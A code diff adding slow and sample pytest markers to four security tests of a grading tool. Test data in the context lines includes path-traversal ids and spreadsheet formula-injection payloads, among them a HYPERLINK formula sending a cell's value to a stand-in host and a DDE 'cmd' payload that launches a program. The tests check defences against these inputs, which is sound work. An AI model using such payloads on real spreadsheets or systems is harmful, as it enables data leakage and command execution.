@@ -61,6 +61,8 @@ def one_line_exit_2(done, *words):
 
 
 # --- 1, 2: an output may not replace an input ------------------------------------------------------------
+@pytest.mark.slow
+@pytest.mark.sample
 @pytest.mark.parametrize("target", ["D/variants.csv", "subs/v001.toml"])
 def test_grade_refuses_an_output_over_its_inputs(klass, target):
     before = snapshot(klass)
@@ -97,6 +99,8 @@ def _edit_variants(folder, change):
         csv.writer(f).writerows(rows)
 
 
+@pytest.mark.slow
+@pytest.mark.sample
 @pytest.mark.parametrize("bad", ["../../ESC", "/tmp/ESC", "..", "a/b", "v002"])
 def test_grade_refuses_an_id_the_roster_would_refuse(klass, bad):
     escape = klass.parent / "ESC.toml"
@@ -134,6 +138,8 @@ FORMULAS = ['=HYPERLINK("http://x.example/?q="&A1,"click")', "=cmd|' /C calc'!A0
             "\t=1", "\r=1"]
 
 
+@pytest.mark.slow
+@pytest.mark.sample
 @pytest.mark.parametrize("formula", FORMULAS)
 def test_grades_csv_neutralises_formulas_from_variants_csv(klass, formula):
     def change(rows):
@@ -223,6 +229,8 @@ def _long_class(folder, iterations, draws):
     return path
 
 
+@pytest.mark.slow
+@pytest.mark.sample
 def test_grade_keeps_checks_bound_on_the_numbers_it_recomputes(tmp_path):
     from derive import limits, spec
 
